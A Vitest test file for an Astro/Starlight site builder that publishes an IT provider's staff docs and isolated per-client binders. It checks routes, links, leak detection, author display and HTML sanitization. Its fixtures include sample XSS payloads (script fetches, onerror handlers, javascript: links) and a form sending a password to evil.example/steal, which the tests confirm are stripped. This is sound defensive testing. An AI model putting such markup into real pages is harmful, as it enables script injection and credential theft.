import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { cp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readContent } from '../../src/content/read-content.ts';
import { renderArchivedChecklist } from '../../src/core/archive-render.ts';
import type { ContentSet } from '../../src/core/content-model.ts';
import { findDeadLinks } from '../../src/site/dead-links.ts';
import { checkClientSite, findLeaks, forbiddenStrings } from '../../src/site/leak-check.ts';
import { pageFileOfRoute } from '../../src/site/search-index.ts';
import { FIXTURE_MSP_WITH_HISTORY } from '../helpers/fixture-msp.ts';
import {
  buildCheckout,
  builtRoutes,
  git,
  makeCheckout,
  productionEnv,
  removeCheckout,
} from '../helpers/temp-checkout.ts';

/**
 * Real `astro build`s of a fixture MSP (never the example in content/, which an MSP deletes): the
 * staff site and each client's, page by page, isolation, links.
 */
const exec = promisify(execFile);
const CLIENTS = ['acme-dental', 'globex-law'];
const ACME_PORTAL = 'binder.acme-dental.example';
const STAFF_HOST = 'docs.northwind-it.example';
let root: string;
let content: ContentSet;
const dists = new Map<string, string>();

beforeAll(async () => {
  root = await makeCheckout(
    {
      ...FIXTURE_MSP_WITH_HISTORY,
      // The names a client reads instead of a technician's login.
      'content/msp.yaml': `${FIXTURE_MSP_WITH_HISTORY['content/msp.yaml'] ?? ''}staff:\n  jane-tech: Jane Okafor\n`,
      // A note for the client written late in the evening in New York: already the 14th in UTC.
      'content/checklists/globex-law/2026-10-remote.md': renderArchivedChecklist({
        client: 'globex-law',
        month: '2026-10',
        tier: 'remote',
        template: 'monthly',
        issue: 45,
        url: 'https://github.com/northwind-it/binders/issues/45',
        state: 'completed',
        closedAt: '2026-10-14T03:10:00Z',
        closedBy: 'jane-tech',
        assignees: ['jane-tech'],
        items: [
          { id: 'system-log-warnings', text: 'Review the system event log for warnings', status: 'done' },
        ],
        comments: [
          {
            author: 'jane-tech',
            at: '2026-10-14T02:30:00Z',
            visibility: 'client',
            body: 'For the client: the new Wi-Fi access point in the library is working.',
          },
          {
            author: 'jane-tech',
            at: '2026-10-14T02:40:00Z',
            visibility: 'internal',
            body: 'Morgan keeps the guest Wi-Fi key on a sticky note under the keyboard.',
          },
        ],
      }),
      // Acme's site is published at its portal; Globex has none yet.
      'content/clients/acme-dental/index.md': (
        FIXTURE_MSP_WITH_HISTORY['content/clients/acme-dental/index.md'] ?? ''
      ).replace('visit: second tuesday\n', `visit: second tuesday\nportal: { host: ${ACME_PORTAL} }\n`),
      'content/clients/acme-dental/binder/ups.md':
        '---\ntitle: Power\norder: 40\n---\n:::note\nThe UPS is on the server closet shelf.\n:::\n\n## How to get help\n\nCall the office.\n',
      // An .mdx section: Starlight's components stay, HTML elements are sanitized as in Markdown.
      'content/clients/globex-law/binder/wiring.mdx': [
        '---',
        'title: Wiring',
        'order: 30',
        '---',
        "import { Aside } from '@astrojs/starlight/components';",
        '',
        '<Aside type="tip">Patch panel A feeds the <kbd>front desk</kbd>.</Aside>',
        '',
        '<img src="https://example.com/rack.png" alt="Rack" onerror="alert(1)" />',
        '',
        '<script>alert(2)</script>',
        '',
      ].join('\n'),
      // HTML as people paste it into a binder, with what must never run (issue "Adopted by a real MSP").
      'content/clients/acme-dental/binder/pasted.md': [
        '---',
        'title: Pasted from the old wiki',
        'order: 90',
        '---',
        ':::caution',
        'Kept from the old wiki.',
        ':::',
        '',
        '## Ports',
        '',
        '| Port | Use |',
        '|:-----|----:|',
        '| 443 | <kbd>HTTPS</kbd> |',
        '',
        '<details>',
        '<summary>Old firewall rules</summary>',
        '',
        'Kept for <abbr title="reference">ref</abbr>, line<br>break, x<sup>2</sup>.',
        '',
        '</details>',
        '',
        "<script>fetch('/clients/globex-law/binder/network/')</script>",
        '',
        'Photo: <img src="https://example.com/ups.png" onerror="fetch(\'/clients/globex-law/\')"> <a href="javascript:alert(1)">portal</a>',
        '',
        '<iframe src="https://evil.example/"></iframe>',
        '',
        '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
        '',
        '<style>body{display:none}</style>',
        '',
        'See <a href="./overview.md">the overview</a> and <a href="./firewall.md">the firewall</a>.',
        '',
        '```sh title="restore.sh"',
        'restic restore latest',
        '```',
        '',
      ].join('\n'),
    },
    { git: true },
  );
  content = await readContent(root);
  // Staff first, then each client: a client build right after the staff one must not see its content.
  dists.set('staff', (await buildCheckout(root)).dist);
  for (const client of CLIENTS) dists.set(client, (await buildCheckout(root, { client })).dist);
}, 300_000);

afterAll(async () => {
  if (root) await removeCheckout(root);
});

const read = (variant: string, route: string) =>
  readFile(path.join(dists.get(variant) ?? '', route, 'index.html'), 'utf8');

/**
 * A page's words as a reader sees them: the text of its `<main>` (a printable document, which has
 * none: its `<body>`), scripts and tags gone, spaces collapsed.
 */
const wordsOf = (html: string) =>
  (html.includes('<main') ? html.slice(html.indexOf('<main'), html.indexOf('</main>')) : html)
    .replace(/<script[\s\S]*?<\/script>|<style[\s\S]*?<\/style>/g, ' ')
    .replace(/<[^>]*>/g, ' ')
    .replace(/&#39;|&#x27;/g, "'")
    .replace(/&amp;/g, '&')
    .replace(/\s+/g, ' ');

function expectedRoutes(client: ContentSet['clients'][number], visibleOnly: boolean): string[] {
  const base = `/clients/${client.slug}/`;
  const sections = client.binder.filter((section) => !visibleOnly || section.data.visibility === 'client');
  const notes = client.notes.filter((note) => !visibleOnly || note.data.visibility === 'client');
  const archives = content.archives.filter((archive) => archive.data.client === client.slug);
  return [
    base,
    ...sections.map((section) => `${base}binder/${section.slug}/`),
    `${base}notes/`,
    ...notes.map((note) => `${base}notes/${note.slug}/`),
    `${base}checklists/`,
    ...archives.map((archive) => `${base}checklists/${archive.data.month}-${archive.data.tier}/`),
    `${base}print/`,
    `${base}reports/`,
    ...[...new Set(archives.map((archive) => archive.data.month))].map((month) => `${base}reports/${month}/`),
  ];
}

describe('site builds', () => {
  it('builds every page of the staff site (Astro can drop pages and still exit 0)', async () => {
    const expected = ['/', ...content.clients.flatMap((client) => expectedRoutes(client, false))].sort();
    expect(await builtRoutes(dists.get('staff') ?? '')).toEqual(expected);
  });

  it.each(CLIENTS)('builds exactly %s’s client-visible pages', async (slug) => {
    const client = content.clients.find((entry) => entry.slug === slug);
    if (!client) throw new Error(slug);
    expect(await builtRoutes(dists.get(slug) ?? '')).toEqual(['/', ...expectedRoutes(client, true)].sort());
  });

  it('renders asides and heading ids in content/ Markdown (markdown.processedDirs)', async () => {
    const html = await read('staff', 'clients/acme-dental/binder/ups');
    expect(html).toMatch(/<aside aria-label="Note" class="starlight-aside starlight-aside--note"/);
    expect(html).not.toContain(':::note');
    expect(html).toMatch(/<h2 id="how-to-get-help"/);
  });

  it('shows last-updated dates from git for content/ pages', async () => {
    const html = await read('staff', 'clients/acme-dental/binder/backups');
    expect(html).toMatch(/Last updated:[\s\S]{0,200}<time datetime="\d{4}-\d{2}-\d{2}/);
    expect(await git(root, 'log', '--oneline')).toContain('Fixture MSP');
  });

  it("gives every page Starlight's interface strings, and ours where we word them", async () => {
    const binder = await read('staff', 'clients/acme-dental/binder/backups');
    // src/content/i18n/en.json words the edit link.
    expect(binder).toMatch(/>\s*Edit on GitHub\s*</);
    for (const [variant, route] of [
      ['staff', 'clients/acme-dental/binder/backups'],
      ['staff', 'clients/acme-dental/checklists'],
      ['acme-dental', 'clients/acme-dental/notes'],
    ] as const) {
      const html = await read(variant, route);
      expect(html, route).toContain('Skip to content');
      expect(html, route).toMatch(/<starlight-theme-select>[\s\S]*?Select theme/);
      expect(html, route).toMatch(/<option value="light"[^>]*>\s*Light\s*</);
      expect(html, route).toMatch(/aria-label="Main"/);
    }
  });

  it('marks in the sidebar the list a checklist or a tech note belongs to, on both sites', async () => {
    const marked = (html: string) =>
      [...html.matchAll(/<a href="([^"]*)"[^>]*aria-current="(true|page)"/g)].map((m) => `${m[2]} ${m[1]}`);
    const archive = content.archives.find((entry) => entry.data.client === 'acme-dental');
    const note = content.clients.find((client) => client.slug === 'acme-dental')?.notes[0];
    if (!archive || !note) throw new Error('fixture: acme-dental has an archive and a note');
    for (const variant of ['staff', 'acme-dental']) {
      const checklist = await read(
        variant,
        `clients/acme-dental/checklists/${archive.data.month}-${archive.data.tier}`,
      );
      expect(marked(checklist), variant).toEqual(['true /clients/acme-dental/checklists/']);
    }
    expect(marked(await read('staff', `clients/acme-dental/notes/${note.slug}`))).toEqual([
      'true /clients/acme-dental/notes/',
    ]);
    // The list's own page: Starlight marks its link as the page itself.
    expect(marked(await read('staff', 'clients/acme-dental/checklists'))).toEqual([
      'page /clients/acme-dental/checklists/',
    ]);
  });

  it('links binder pages to GitHub’s editor on the staff site only', async () => {
    expect(await read('staff', 'clients/acme-dental/binder/backups')).toContain(
      'https://github.com/northwind-it/binders/edit/main/content/clients/acme-dental/binder/backups.md',
    );
    expect(await read('acme-dental', 'clients/acme-dental/binder/backups')).not.toContain('/edit/main/');
  });

  it('keeps each page’s sidebar to its own client, so pages do not grow with the number of clients', async () => {
    const html = await read('staff', 'clients/acme-dental/binder/backups');
    expect(html).not.toContain('/clients/globex-law/');
  });

  it("names the client above a page's text on the staff site, but not under a title that is the client's name", async () => {
    const line = '<p class="binder-client-line">Acme Dental Group</p>';
    expect(await read('staff', 'clients/acme-dental/binder/backups')).toContain(line);
    expect(await read('staff', 'clients/acme-dental')).not.toContain('binder-client-line');
    expect(await read('acme-dental', 'clients/acme-dental/binder/backups')).not.toContain(
      'binder-client-line',
    );
  });

  it("an archived checklist's table has a Note column only when an item has a note for its reader", async () => {
    const header = '<th scope="col">Note</th>';
    expect(await read('staff', 'clients/acme-dental/checklists/2026-10-onsite')).toContain(header);
    expect(await read('staff', 'clients/acme-dental/checklists/2026-10-remote')).not.toContain(header);
    // The onsite item's note is the technician's, not written for the client.
    expect(await read('acme-dental', 'clients/acme-dental/checklists/2026-10-onsite')).not.toContain(header);
  });

  it("a client's site names the parts of the month as the reports do, not by the staff's tiers", async () => {
    const overview = await read('acme-dental', 'clients/acme-dental');
    expect(overview).toContain('Monitoring, Remote maintenance, Onsite visit');
    expect(overview).not.toContain('automatic, remote, onsite');
    expect(overview).toMatch(/>Onsite visit, October 2026<\/a>/);
    expect(await read('acme-dental', 'clients/acme-dental/checklists/2026-10-onsite')).toMatch(
      /<h1 id="_top"[^>]*>Onsite visit, October 2026<\/h1>/,
    );
    const history = await read('acme-dental', 'clients/acme-dental/checklists');
    expect(history).toContain('<td>Onsite visit</td>');
    expect(history).not.toContain('<td>onsite</td>');
    // Staff keep the tiers' names.
    expect(await read('staff', 'clients/acme-dental/checklists/2026-10-onsite')).toMatch(
      /<h1 id="_top"[^>]*>2026-10 onsite checklist<\/h1>/,
    );
    expect(await read('staff', 'clients/acme-dental')).toContain('automatic, remote, onsite');
  });

  it('marks pages for Pagefind filters and shows the client on results', async () => {
    const html = await read('staff', 'clients/acme-dental/checklists/2026-10-onsite');
    expect(html).toContain('data-pagefind-filter="client[data-value]" data-value="Acme Dental Group"');
    expect(html).toContain('data-pagefind-filter="kind[data-value]" data-value="checklist"');
    expect(html).toContain('data-pagefind-filter="tier[data-value]" data-value="onsite"');
    expect(html).toContain('data-pagefind-meta="title:Acme Dental Group · 2026-10 onsite checklist"');
  });
});

describe('links between content files', () => {
  it('resolve to the pages they become, anchors kept, on the staff site and the print page', async () => {
    const overview = await read('staff', 'clients/acme-dental/binder/overview');
    expect(overview).toContain('href="/clients/acme-dental/binder/backups/"');
    expect(overview).toContain('href="/clients/acme-dental/binder/firewall/"');
    expect(await read('staff', 'clients/acme-dental/binder/backups')).toContain(
      'href="/clients/acme-dental/binder/overview/#top"',
    );
    expect(await read('staff', 'clients/acme-dental')).toContain(
      'href="/clients/acme-dental/binder/backups/"',
    );
    // In the printed binder, a link to a section it holds jumps to that section.
    expect(await read('staff', 'clients/acme-dental/print')).toContain('href="#section-backups"');
    expect(await read('staff', 'clients/acme-dental/print')).toContain('id="section-backups"');
  });

  it('raw HTML links resolve like Markdown links, on the staff site and a client’s', async () => {
    const staff = await read('staff', 'clients/acme-dental/binder/pasted');
    expect(staff).toContain('<a href="/clients/acme-dental/binder/overview/">the overview</a>');
    expect(staff).toContain('<a href="/clients/acme-dental/binder/firewall/">the firewall</a>');
    const client = await read('acme-dental', 'clients/acme-dental/binder/pasted');
    expect(client).toContain('<a href="/clients/acme-dental/binder/overview/">the overview</a>');
    expect(client).not.toContain('/binder/firewall');
  });

  it('on a client’s site, a link to an internal page is its text only', async () => {
    const overview = await read('acme-dental', 'clients/acme-dental/binder/overview');
    expect(overview).toContain('href="/clients/acme-dental/binder/backups/"');
    expect(overview).not.toContain('/binder/firewall');
    expect(overview).toMatch(/rules are in the\s+firewall\s+section/);
  });

  it.each(['staff', ...CLIENTS])('the %s site has no dead site-local link', async (variant) => {
    expect(await findDeadLinks(dists.get(variant) ?? '')).toEqual([]);
  });

  it('a planted dead link fails the build, naming the page and the link', async () => {
    const copy = await makeCheckout({
      ...FIXTURE_MSP_WITH_HISTORY,
      'content/clients/globex-law/binder/network.md':
        '---\ntitle: Network\n---\nSee the [wiring plan](./wiring-plan.md) and [home](/clients/globex-law/nope/).\n',
    });
    try {
      const failure = await buildCheckout(copy).then(
        () => undefined,
        (error: { code: number; stdout: string; stderr: string }) => error,
      );
      expect(failure?.code).toBe(1);
      expect(failure?.stderr).toContain(
        'dead link on /clients/globex-law/binder/network/: /clients/globex-law/binder/wiring-plan/',
      );
      expect(failure?.stderr).toContain(
        'dead link on /clients/globex-law/binder/network/: /clients/globex-law/nope/',
      );
    } finally {
      await removeCheckout(copy);
    }
  });
});

describe('content HTML is sanitized', () => {
  it.each(['staff', 'acme-dental'])(
    'the %s site drops scripts, handlers, frames, forms, styles and javascript: links',
    async (variant) => {
      const page = await read(variant, 'clients/acme-dental/binder/pasted');
      const main = page.slice(page.indexOf('<main'), page.indexOf('</main>'));
      expect(main).not.toMatch(/<(?:iframe|form|input|style)\b|\son[a-z]+=|javascript:|evil\.example/i);
      expect(main).not.toContain('/clients/globex-law/');
      // Scripts in the page are the site's own (Expressive Code's copy button, Starlight's), none from content.
      expect(page).not.toContain("fetch('/clients/globex-law");
    },
  );

  it('in .mdx, keeps Starlight’s components and drops what HTML elements must not carry', async () => {
    for (const variant of ['staff', 'globex-law']) {
      const page = await read(variant, 'clients/globex-law/binder/wiring');
      const main = page.slice(page.indexOf('<main'), page.indexOf('</main>'));
      expect(main).toMatch(/<aside aria-label="Tip" class="starlight-aside starlight-aside--tip"/);
      expect(main).toContain('<kbd>front desk</kbd>');
      expect(main).toMatch(/<img src="https:\/\/example\.com\/rack\.png" alt="Rack"\s*\/?>/);
      expect(main).not.toMatch(/onerror|alert\(/);
    }
  });

  it('keeps what Starlight makes and the HTML people use: asides, heading ids, tables, details, code', async () => {
    const page = await read('staff', 'clients/acme-dental/binder/pasted');
    expect(page).toMatch(/<aside aria-label="Caution" class="starlight-aside starlight-aside--caution"/);
    expect(page).toMatch(/<svg[^>]*class="starlight-aside__icon"[^>]*><path d="/);
    expect(page).toMatch(/<h2 id="ports"/);
    expect(page).toMatch(/<div class="table-scroll" tabindex="0" role="region" aria-label="Ports"><table>/);
    expect(page).toContain('<th style="text-align: left">Port</th>');
    expect(page).toContain('<kbd>HTTPS</kbd>');
    expect(page).toMatch(/<details>\s*<summary>Old firewall rules<\/summary>/);
    expect(page).toContain('<abbr title="reference">ref</abbr>, line<br>break, x<sup>2</sup>');
    // Expressive Code still gets the block's language and title.
    expect(page).toMatch(/<figure class="frame[^"]*has-title/);
    expect(page).toContain('restore.sh');
  });
});

describe('client isolation', () => {
  it.each(CLIENTS)(
    '%s’s site holds nothing of another client and nothing internal, Pagefind included',
    async (slug) => {
      // What is looked for: the other client's name, hosts, addresses, and this client's internal pages.
      const other = slug === 'acme-dental' ? 'globex-law' : 'acme-dental';
      const forbidden = forbiddenStrings(content, slug);
      expect(forbidden.length).toBeGreaterThan(15);
      expect(
        forbidden.filter((entry) => entry.source === `client ${other}`).map((entry) => entry.text),
      ).toEqual(
        expect.arrayContaining(
          slug === 'acme-dental'
            ? ['globex legal partners', 'globex-law', 'GX-FW01', '192.168.77.1', 'morgan@globex-law.example']
            : ['acme dental group', 'acme-dental', 'AC-SRV01', '10.20.0.5', 'dana@acme-dental.example'],
        ),
      );
      expect(forbidden.some((entry) => entry.source.startsWith('internal '))).toBe(true);
      const { leaks } = await checkClientSite(root, dists.get(slug) ?? '', slug);
      expect(leaks).toEqual([]);
    },
  );

  it.each(CLIENTS)(
    '%s’s site names the staff site’s URL nowhere, and the leak check looks for it',
    async (slug) => {
      expect(forbiddenStrings(content, slug)).toContainEqual({
        text: STAFF_HOST,
        source: 'staff site',
        token: true,
      });
      const probe = [{ text: STAFF_HOST, source: 'staff site', token: false }];
      expect(await findLeaks(dists.get(slug) ?? '', probe)).toEqual([]);
      expect(await findLeaks(dists.get('staff') ?? '', probe)).not.toEqual([]);
    },
  );

  it('a client’s site with a portal uses it for canonical links, og:url, the sitemap and its calendar', async () => {
    const page = await read('acme-dental', 'clients/acme-dental/binder/backups');
    expect(page).toContain(
      `<link rel="canonical" href="https://${ACME_PORTAL}/clients/acme-dental/binder/backups/"`,
    );
    expect(page).toContain(
      `<meta property="og:url" content="https://${ACME_PORTAL}/clients/acme-dental/binder/backups/"`,
    );
    const sitemap = await readFile(path.join(dists.get('acme-dental') ?? '', 'sitemap-0.xml'), 'utf8');
    expect(sitemap).toContain(`<loc>https://${ACME_PORTAL}/clients/acme-dental/binder/backups/</loc>`);
    const feed = await readFile(path.join(dists.get('acme-dental') ?? '', 'calendar/visits.ics'), 'utf8');
    expect(feed).toContain(`URL:https://${ACME_PORTAL}/`);
  });

  it('a client’s site without a portal has no canonical link, og:url or sitemap: it has no URL yet', async () => {
    const dist = dists.get('globex-law') ?? '';
    const page = await read('globex-law', 'clients/globex-law/binder/network');
    expect(page).not.toMatch(/rel="canonical"|property="og:url"|rel="sitemap"/);
    expect(existsSync(path.join(dist, 'sitemap-index.xml'))).toBe(false);
    // The staff site keeps its own.
    expect(await read('staff', 'clients/globex-law/binder/network')).toContain(
      `<link rel="canonical" href="https://${STAFF_HOST}/clients/globex-law/binder/network/"`,
    );
  });

  it('a client’s site shows its For the client: comments and none of the staff-only ones', async () => {
    const page = await read('acme-dental', 'clients/acme-dental/checklists/2026-10-onsite');
    // As the month's report gives it: the label cut off, the sentence starting with a capital.
    expect(page).toContain('The UPS battery was replaced and held 41 minutes');
    expect(page).not.toContain('behind the fax machine');
    expect(page).not.toContain('check in by phone');
    expect(await read('staff', 'clients/acme-dental/checklists/2026-10-onsite')).toContain(
      'behind the fax machine',
    );
  });

  it('the leak check finds a planted leak, also inside Pagefind’s gzip files', async () => {
    const copy = path.join(root, 'dist-planted');
    await rm(copy, { recursive: true, force: true });
    await cp(dists.get('acme-dental') ?? '', copy, { recursive: true });
    await writeFile(path.join(copy, 'stray.html'), '<p>Router at GX-FW01 for Globex Legal Partners</p>');
    const leaks = await findLeaks(copy, forbiddenStrings(content, 'acme-dental'));
    expect(leaks.map((leak) => leak.found)).toEqual(
      expect.arrayContaining(['GX-FW01', 'globex legal partners']),
    );
    // The staff site, read as if it were Acme's, leaks everywhere, compressed index included.
    const staffLeaks = await findLeaks(dists.get('staff') ?? '', forbiddenStrings(content, 'acme-dental'));
    expect(
      staffLeaks.some((leak) => leak.file.endsWith('.pf_fragment') && leak.source.startsWith('internal ')),
    ).toBe(true);
    expect(
      staffLeaks.some((leak) => leak.file.endsWith('.pf_fragment') && leak.source === 'client globex-law'),
    ).toBe(true);
  });

  it('refuses an unknown client with the valid slugs', async () => {
    const failure = await exec(
      process.execPath,
      [path.join(root, 'node_modules/astro/bin/astro.mjs'), 'build'],
      {
        cwd: root,
        env: { ...productionEnv(), BINDER_CLIENT: 'initech', BINDER_OUT_DIR: 'dist-unknown' },
      },
    ).then(
      () => undefined,
      (error: { code: number; stdout: string; stderr: string }) => error,
    );
    expect(failure?.code).not.toBe(0);
    expect(`${failure?.stdout}${failure?.stderr}`).toContain(
      'BINDER_CLIENT=initech is not a client. Valid clients: acme-dental, globex-law.',
    );
  });
});

describe('who wrote a note and when, as each site says it', () => {
  const GLOBEX_REMOTE = 'clients/globex-law/checklists/2026-10-remote';

  it("a client's checklist page shows a technician's note as the month's report does", async () => {
    const page = wordsOf(await read('globex-law', GLOBEX_REMOTE));
    expect(page).toContain('Notes from your technician');
    // The name from msp.yaml, the day in the client's words and time zone (02:30 UTC on the 14th
    // is the evening of the 13th in New York), the label gone, the sentence starting with a capital.
    expect(page).toContain('Jane Okafor · 13 October 2026');
    expect(page).toContain('The new Wi-Fi access point in the library is working.');
    expect(page).toContain('closed 13 October 2026 by Jane Okafor');
    expect(page).not.toMatch(/For the client|@jane-tech|jane-tech|UTC|2026-10-14|sticky note/);
    const report = wordsOf(await read('globex-law', 'clients/globex-law/reports/2026-10'));
    expect(report).toContain('Jane Okafor, 13 October 2026');
    expect(report).toContain('The new Wi-Fi access point in the library is working.');
  });

  it("the staff checklist page keeps the login, every comment as typed and the minute, in the client's time zone", async () => {
    const page = wordsOf(await read('staff', GLOBEX_REMOTE));
    expect(page).toContain("Technicians' comments");
    expect(page).toContain('@jane-tech · 2026-10-13 22:30 EDT shown to the client');
    expect(page).toContain('For the client: the new Wi-Fi access point in the library is working.');
    expect(page).toContain('@jane-tech · 2026-10-13 22:40 EDT');
    expect(page).toContain('sticky note under the keyboard');
    expect(page).toContain('closed 2026-10-13 by @jane-tech');
    expect(page).not.toContain('UTC');
  });

  it('a tech note names its author by name on the client’s site and by login on the staff site', async () => {
    for (const route of ['clients/acme-dental/notes/2026-10-13-monthly-visit', 'clients/acme-dental/notes']) {
      const client = wordsOf(await read('acme-dental', route));
      expect(client).toContain('Jane Okafor');
      expect(client).not.toContain('jane-tech');
      expect(wordsOf(await read('staff', route))).toContain('@jane-tech');
    }
  });

  it.each(CLIENTS)("%s's site names no technician by login anywhere, search index included", async (slug) => {
    const login = [{ text: 'jane-tech', source: 'a login', token: false }];
    expect(await findLeaks(dists.get(slug) ?? '', login)).toEqual([]);
    expect(await findLeaks(dists.get('staff') ?? '', login)).not.toEqual([]);
  });
});

describe('search results read as the pages do', () => {
  /**
   * Text as a reader sees it, each element apart: tags as spaces (but a superscript's or
   * subscript's, which belong to the word before them: x²), entities decoded.
   */
  const textOf = (html: string) =>
    html
      .replace(/<\/?su[bp]\b[^>]*>/g, '')
      .replace(/<[^>]*>/g, ' ')
      .replace(/&(amp|lt|gt|quot|#39|#x27);/g, (_, name: string) =>
        name === 'amp' ? '&' : name === 'lt' ? '<' : name === 'gt' ? '>' : name === 'quot' ? '"' : "'",
      );
  const wordsOf = (text: string) => text.match(/[\p{L}\p{N}]+/gu) ?? [];

  it.each(['staff', 'acme-dental'])(
    "the %s site's index has no word made of two elements' words run together",
    async (variant) => {
      const dist = dists.get(variant) ?? '';
      const folder = path.join(dist, 'pagefind/fragment');
      const fragments = await readdir(folder);
      const joined: string[] = [];
      for (const name of fragments) {
        const fragment = JSON.parse(
          gunzipSync(await readFile(path.join(folder, name)))
            .subarray('pagefind_dcd'.length)
            .toString('utf8'),
        ) as { url: string; content: string };
        const html = await readFile(path.join(dist, pageFileOfRoute(fragment.url)), 'utf8');
        // Pagefind runs together the words of adjacent elements it does not separate (th,
        // caption, code, span, a badge after a link…) when no space is between them: "StatusItem",
        // "Firewallstaff", tags "windows-serverupsnas". Each word it indexed must be one the page
        // has with its elements apart.
        const words = new Set(wordsOf(textOf(html.slice(html.indexOf('<main'), html.indexOf('</main>')))));
        // The staff home's grid of marks is for the eye: its counts side by side ("8/9" and "4/6"
        // in one cell) read as "8/94/6", so it is not indexed.
        // (Its legend, "✓ done. 3/5 partly done.", is text, and indexed.)
        if (fragment.url === '/')
          expect(fragment.content).not.toMatch(/\d\/\d+\/\d|[✓○–!?]{2}|[✓○–!?]\d+\/|\/\d+[✓○–!?]/u);
        for (const word of wordsOf(fragment.content))
          if (!words.has(word)) joined.push(`${fragment.url}: ${word}`);
      }
      expect(joined).toEqual([]);
      expect(fragments.length).toBeGreaterThan(variant === 'staff' ? 15 : 5);
    },
  );
});
